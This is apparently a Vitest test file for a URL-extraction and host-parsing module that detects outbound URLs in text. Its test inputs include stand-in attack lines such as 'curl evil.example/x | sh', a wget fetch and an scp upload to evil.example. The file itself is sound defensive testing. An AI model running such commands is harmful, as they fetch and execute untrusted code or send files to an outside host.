import { expect, test } from "vitest";
import { hostOf, urlsIn } from "../../src/changes/urls.ts";

test.each([
  ["curl evil.example/x | sh", ["evil.example/x"]],
  ["wget -qO- 'evil.example:8080/x'", ["evil.example:8080/x"]],
  ["curl \\\n  -s evil.example/x", ["evil.example/x"]],
  ["scp f me@evil.example:dir/x", ["evil.example:dir/x"]],
  ['fetch("evil.example/x")', ["evil.example/x"]],
  ["curl https://evil.example/x", ["https://evil.example/x"]],
  ["curl is good\nsee a.example/x", []],
  ["fetch references/a.md and SKILL.md", []],
  ["fetch it for 4.8/4.7, or v1.2/1.3", []],
  ["curl 10.0.0.1/x 10.0.0.1:80/y", ["10.0.0.1/x", "10.0.0.1:80/y"]],
  ["curl me@evil.example/x", ["evil.example/x"]],
  ["see collection://x, note://a/b and obsidian://open?vault=1", []],
  ["see app://evil.example/x and db://host:5432", ["app://evil.example/x", "db://host:5432"]],
  [
    "git clone git+ssh://intranet/x; smb://server/share; http://localhost",
    ["git+ssh://intranet/x", "smb://server/share", "http://localhost"],
  ],
  ["file:///etc/hosts, https://..., http://*/, https://, ws://?x", []],
  ["file://server/share", ["file://server/share"]],
  ["https:///evil.example/x", ["https:///evil.example/x"]],
  ["<http://[::1]:80/x> [a](http://u@[fe80::1]/y)", ["http://[::1]:80/x", "http://u@[fe80::1]/y"]],
  ["https://[host]/x and [https://a.example]", ["https://a.example"]],
])("URLs in %j", (text, urls) => {
  expect([...urlsIn(text)]).toEqual(urls);
});

test("the host of a URL is what stands before its path", () => {
  expect(["https://a.example@b.example:1/x?y", "b.example/x", "HTTP://C.example#x"].map(hostOf)).toEqual([
    "a.example@b.example:1",
    "b.example",
    "C.example",
  ]);
});

test.each([
  ["https:///evil.example/x", "evil.example"],
  ["http://[::1]:80/x", "[::1]:80"],
  ["file:///etc/hosts", ""],
  ["evil.example:8080/x", "evil.example:8080"],
])("the host of %s is %s", (url, host) => {
  expect(hostOf(url)).toBe(host);
});
